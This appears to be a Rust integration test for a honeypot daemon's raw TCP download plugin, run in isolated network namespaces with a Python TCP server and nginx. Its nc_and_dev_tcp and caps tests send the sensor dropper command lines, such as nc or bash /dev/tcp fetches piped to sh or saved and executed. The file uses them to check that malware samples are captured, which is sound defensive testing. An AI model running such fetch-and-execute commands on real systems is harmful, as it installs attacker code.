//! Fetches without a download program: the raw TCP client against a plain TCP server (a
//! Python one-liner) and scripted hostile servers in the client namespace of a veth pair,
//! the client in the sensor namespace as the honeypot would run it; then the daemon attacked
//! with `nc` and `/dev/tcp` command lines, the files fetched from that TCP server and from
//! nginx. Needs root (network namespaces).

mod common;

use common::*;
use honeytrap::pipeline::download::{tcp, Context, Error, Fetched, Limits, Policy};
use std::io::{Read, Write};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

const PYTHON: &str = "/usr/bin/python3";
const T: Duration = Duration::from_secs(20);
const ATTACK_PORT: u16 = 8081;

/// A plain TCP server: sends the file to every connection, then closes it; prints each
/// peer's address.
const TCP_SERVER: &str = r#"
import socket, sys, threading
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
data = open(path, 'rb').read()
s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((host, port))
s.listen(16)
def serve(c, a):
    print('peer', a[0], flush=True)
    try:
        c.sendall(data)
    except OSError as e:
        print('send:', e, flush=True)
    c.close()
while True:
    c, a = s.accept()
    threading.Thread(target=serve, args=(c, a), daemon=True).start()
"#;

type Server = PeerServer;

/// The test's TCP server (Python) on `addr`, sending `data` to each peer, ready.
fn tcp_server(pair: &Pair, dir: &Path, name: &str, addr: SocketAddr, data: &[u8]) -> Server {
    let file = dir.join(format!("{name}.data"));
    std::fs::write(&file, data).unwrap();
    let script = dir.join("tcp_server.py");
    std::fs::write(&script, TCP_SERVER).unwrap();
    let (host, port) = (addr.ip().to_string(), addr.port().to_string());
    let args = [script.to_str().unwrap(), &host, &port, file.to_str().unwrap()];
    let mut s = PeerServer::spawn(pair, dir.join(format!("{name}.out")), PYTHON, &args);
    s.wait_ready(pair, addr);
    s
}

/// Pseudo-random bytes (xorshift), different per seed, starting with `\x7fELF`.
fn sample(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed | 1;
    let mut v: Vec<u8> = (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect();
    v[..4].copy_from_slice(b"\x7fELF");
    v
}

fn md5(data: &[u8]) -> String {
    honeytrap::attack::md5_hex(data)
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn sa(s: &str) -> SocketAddr {
    s.parse().unwrap()
}

/// One `tcp::fetch` in the sensor namespace from `local`, with a cap of `max_size` bytes and
/// a deadline `secs` away: the result and how long it took.
fn fetch(
    pair: &Pair,
    local: &str,
    server: SocketAddr,
    max_size: usize,
    secs: u64,
) -> (Result<Fetched, Error>, Duration) {
    let local = ip(local);
    in_netns(&pair.srv.0, move || {
        let policy = Policy { allow_local: false, sensor: vec![ip(SRV4), ip(SRV6)] };
        let limits = Limits { max_size, io_timeout: Duration::from_secs(5), ..Limits::default() };
        let start = Instant::now();
        let ctx = Context {
            local_ip: local,
            attacker: ip(CLI4),
            ftp_host: None,
            policy: &policy,
            limits: &limits,
            deadline: start + Duration::from_secs(secs),
        };
        (tcp::fetch(server, &[], false, &ctx), start.elapsed())
    })
}

#[test]
fn a_served_file_is_read_until_the_server_closes() {
    if !root_or_skip("a_served_file_is_read_until_the_server_closes", &["ip", PYTHON]) {
        return;
    }
    let pair = Pair::new();
    let dir = TempDir::new("download_tcp");
    // A second sensor address: the client must connect from the attacked one.
    run_ok("ip", &["-n", &pair.srv.0, "addr", "add", "10.77.0.3/24", "dev", "ht-s"]);
    let data = sample(1, 300_000);
    let v4 = tcp_server(&pair, dir.path(), "tcp4", sa("10.77.0.2:4444"), &data);
    let v6 = tcp_server(&pair, dir.path(), "tcp6", sa("[fd77::2]:4444"), &data);

    let (r, _) = fetch(&pair, "10.77.0.3", sa("10.77.0.2:4444"), 1 << 20, 20);
    let got = r.unwrap_or_else(|e| panic!("{e}: {}", v4.output()));
    assert_eq!((got.data.len(), md5(&got.data)), (data.len(), md5(&data)));
    assert_eq!((got.remote, got.uri.as_str()), (sa("10.77.0.2:4444"), "tcp://10.77.0.2:4444"));
    assert!(wait_until(Duration::from_secs(5), || v4.output().contains("peer 10.77.0.3\n")), "{}", v4.output());

    let (r, _) = fetch(&pair, SRV6, sa("[fd77::2]:4444"), 1 << 20, 20);
    let got = r.unwrap_or_else(|e| panic!("{e}: {}", v6.output()));
    assert_eq!((md5(&got.data), got.uri.as_str()), (md5(&data), "tcp://[fd77::2]:4444"));
}

#[test]
fn size_time_and_address_caps_hold() {
    if !root_or_skip("size_time_and_address_caps_hold", &["ip", PYTHON]) {
        return;
    }
    let pair = Pair::new();
    let dir = TempDir::new("download_tcp_caps");
    let big = sample(2, 300_000);
    let _big = tcp_server(&pair, dir.path(), "big", sa("10.77.0.2:4445"), &big);

    // More than the cap: abandoned.
    let (r, _) = fetch(&pair, SRV4, sa("10.77.0.2:4445"), 100_000, 20);
    assert!(matches!(r, Err(Error::TooLarge(100_000))), "{r:?}");

    // A server that sends a little and never closes: the deadline ends it, with no file.
    let hold = in_netns(&pair.cli.0, || TcpListener::bind("10.77.0.2:4446").unwrap());
    let holder = std::thread::spawn(move || {
        let (mut c, _) = hold.accept().unwrap();
        c.write_all(b"\x7fELF partial").unwrap();
        // Held open until the client gives up (bounded).
        c.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
        let _ = c.read(&mut [0u8; 16]);
    });
    let (r, took) = fetch(&pair, SRV4, sa("10.77.0.2:4446"), 100_000, 2);
    assert!(matches!(r, Err(Error::Timeout)), "{r:?}");
    assert!(took >= Duration::from_millis(1900) && took < Duration::from_secs(6), "{took:?}");
    holder.join().unwrap();

    // Addresses the policy refuses: loopback, link-local, the sensor's own; nothing is sent.
    for bad in ["127.0.0.1:4445", "169.254.169.254:80", "10.77.0.1:4445", "[::1]:4445"] {
        let (r, took) = fetch(&pair, SRV4, sa(bad), 100_000, 5);
        assert!(matches!(&r, Err(Error::Refused(_))), "{bad}: {r:?}");
        assert!(took < Duration::from_secs(1), "{bad}: {took:?}");
    }

    // Nobody listening.
    let (r, _) = fetch(&pair, SRV4, sa("10.77.0.2:4447"), 100_000, 5);
    assert!(matches!(r, Err(Error::Connect(..))), "{r:?}");
}

/// The daemon (nfq, every download plugin, SaveFile, logJSON) in the sensor namespace; nginx
/// and the TCP servers in the client namespace.
struct Lab {
    pair: Pair,
    dir: TempDir,
    daemon: Running,
    _servers: Vec<Server>,
}

impl Lab {
    fn start(name: &str, www: &[(&str, &[u8])], tcp: &[(u16, &[u8])], extra: &str) -> Lab {
        let pair = Pair::new();
        let dir = TempDir::new(name);
        for d in ["downloads", "www", "tmp"] {
            std::fs::create_dir_all(dir.join(d)).unwrap();
            std::fs::set_permissions(dir.join(d), std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        for (file, data) in www {
            std::fs::write(dir.join("www").join(file), data).unwrap();
            std::fs::set_permissions(dir.join("www").join(file), std::fs::Permissions::from_mode(0o644)).unwrap();
        }
        let d = dir.path().display().to_string();
        std::fs::write(
            dir.join("nginx.conf"),
            nginx_conf(dir.path(), "        listen 10.77.0.2:80;\n        root DIR/www;"),
        )
        .unwrap();
        let mut nginx =
            PeerServer::spawn(&pair, dir.join("nginx.out"), "nginx", &["-c", dir.join("nginx.conf").to_str().unwrap()]);
        nginx.wait_ready(&pair, sa("10.77.0.2:80"));
        let mut servers = vec![nginx];
        for (port, data) in tcp {
            let addr = SocketAddr::new(ip(CLI4), *port);
            servers.push(tcp_server(&pair, dir.path(), &format!("tcp{port}"), addr, data));
        }
        pair.queue_to_nfq();
        let conf = write_config(
            dir.path(),
            &format!(
                "monitor = \"nfq\"\n{extra}\n\
                 plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"\n\
                 plugin-logJSON = {{ logfile = \"{d}/attackers.json\" }}\n\
                 plugin-SaveFile = {{ downloads_dir = \"{d}/downloads\" }}\n"
            ),
        );
        let mut cmd = pair.srv.command(BIN);
        cmd.args(["-C", conf.to_str().unwrap(), "-t", "5"]);
        let daemon = Running::start(Launch::Foreground, cmd, &dir.join("honeytrap.log"), &dir.join("honeytrap.pid"));
        Lab { pair, dir, daemon, _servers: servers }
    }

    fn log(&self) -> String {
        read(&self.dir.join("honeytrap.log"))
    }

    /// Sends `data` to the sensor from the attacker namespace and closes.
    fn attack(&self, data: &str) {
        let to = SocketAddr::new(ip(SRV4), ATTACK_PORT);
        let data = data.as_bytes().to_vec();
        in_netns(&self.pair.cli.0, move || {
            let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(3)).expect("connect");
            s.write_all(&data).unwrap();
            s.shutdown(Shutdown::Write).unwrap();
            s.set_read_timeout(Some(T)).unwrap();
            let _ = s.read_to_end(&mut Vec::new());
        });
    }

    fn has_download(&self, name: &str, data: &[u8]) -> bool {
        std::fs::read(self.dir.join("downloads").join(format!("{}-{name}", md5(data)))).is_ok_and(|d| d == data)
    }

    fn expect_download(&self, name: &str, data: &[u8]) {
        let ok = wait_until(T, || self.has_download(name, data));
        let listing: Vec<String> = std::fs::read_dir(self.dir.join("downloads"))
            .map(|r| r.filter_map(|e| Some(e.ok()?.file_name().to_string_lossy().into_owned())).collect())
            .unwrap_or_default();
        assert!(ok, "no {name} in {listing:?}; log:\n{}", self.log());
    }

    fn expect_log(&self, needle: &str) {
        assert!(wait_for_text(&self.dir.join("honeytrap.log"), needle, T), "{needle:?} not in\n{}", self.log());
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        let _ = self.daemon.stop(T);
    }
}

fn lab_tools(name: &str) -> bool {
    root_or_skip(name, &["ip", "iptables", "ip6tables", "nginx", PYTHON])
}

#[test]
fn nc_and_dev_tcp_attacks_land_in_downloads_dir() {
    if !lab_tools("nc_and_dev_tcp_attacks_land_in_downloads_dir") {
        return;
    }
    let (a, b, c, d) = (sample(11, 40_000), sample(12, 5_000), sample(13, 70_000), sample(14, 3_000));
    let lab = Lab::start("download_tcp_lab", &[("c.bin", &c), ("d.sh", &d)], &[(4444, &a), (4445, &b)], "");

    // nc into a file, as IoT droppers write it.
    lab.attack(&format!("cd /tmp; busybox nc -w 5 {CLI4} 4444 > .a; chmod +x .a; ./.a\n"));
    lab.expect_download(".a", &a);
    lab.expect_log(&format!("TCP download - .a (40000 bytes from tcp://{CLI4}:4444) attached to attack record."));
    // nc into a shell: the file is named after the server.
    lab.attack(&format!("nc {CLI4} 4445 | sh\n"));
    lab.expect_download("10.77.0.2_4445", &b);
    // bash /dev/tcp with an HTTP request: fetched from nginx.
    lab.attack(&format!(
        "exec 3<>/dev/tcp/{CLI4}/80; echo -e \"GET /c.bin HTTP/1.0\\r\\nHost: {CLI4}\\r\\n\\r\\n\" >&3; \
         while read -r l; do [ \"$l\" = $'\\r' ] && break; done <&3; cat <&3 > /tmp/cc; chmod +x /tmp/cc\n"
    ));
    lab.expect_download("cc", &c);
    // An HTTP request piped into nc.
    lab.attack(&format!("printf 'GET /d.sh HTTP/1.0\\r\\n\\r\\n' | nc {CLI4} 80 > d; sh d\n"));
    lab.expect_download("d", &d);

    let json = read(&lab.dir.join("attackers.json"));
    assert!(
        wait_until(T, || read(&lab.dir.join("attackers.json"))
            .contains(&format!("\"uri_0\": \"tcp:\\/\\/{CLI4}:4445\""))),
        "{json}"
    );
    let json = read(&lab.dir.join("attackers.json"));
    assert!(json.contains("\"type_0\": \"tcp\"") && json.contains(&format!("\"md5_hash\": \"{}\"", md5(&a))), "{json}");
}

#[test]
fn tcp_caps_in_the_daemon() {
    if !lab_tools("tcp_caps_in_the_daemon") {
        return;
    }
    let big = sample(21, 300_000);
    let lab = Lab::start(
        "download_tcp_lab_caps",
        &[],
        &[(4444, &big)],
        "download_max_size = \"100000\"\ndownload_timeout = \"3\"",
    );
    // More than download_max_size.
    lab.attack(&format!("nc {CLI4} 4444 > big; ./big\n"));
    lab.expect_log(&format!("TCP download error - tcp://{CLI4}:4444: file larger than 100000 bytes."));
    // Loopback: never connected to.
    lab.attack("nc 127.0.0.1 4444 > lo; ./lo\n");
    lab.expect_log("TCP download error - tcp://127.0.0.1:4444: refused: 127.0.0.1 is a loopback address.");
    // A server that never closes: download_timeout ends it.
    let hold = in_netns(&lab.pair.cli.0, || TcpListener::bind("10.77.0.2:4446").unwrap());
    let holder = std::thread::spawn(move || {
        let (mut c, _) = hold.accept().unwrap();
        c.write_all(b"\x7fELF partial").unwrap();
        c.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
        let _ = c.read(&mut [0u8; 16]);
    });
    let t0 = Instant::now();
    lab.attack(&format!("nc {CLI4} 4446 > slow; ./slow\n"));
    lab.expect_log(&format!("TCP download error - tcp://{CLI4}:4446: timeout."));
    assert!(t0.elapsed() < Duration::from_secs(12), "{:?}", t0.elapsed());
    holder.join().unwrap();
    assert!(!std::fs::read_dir(lab.dir.join("downloads")).unwrap().any(|_| true));
}
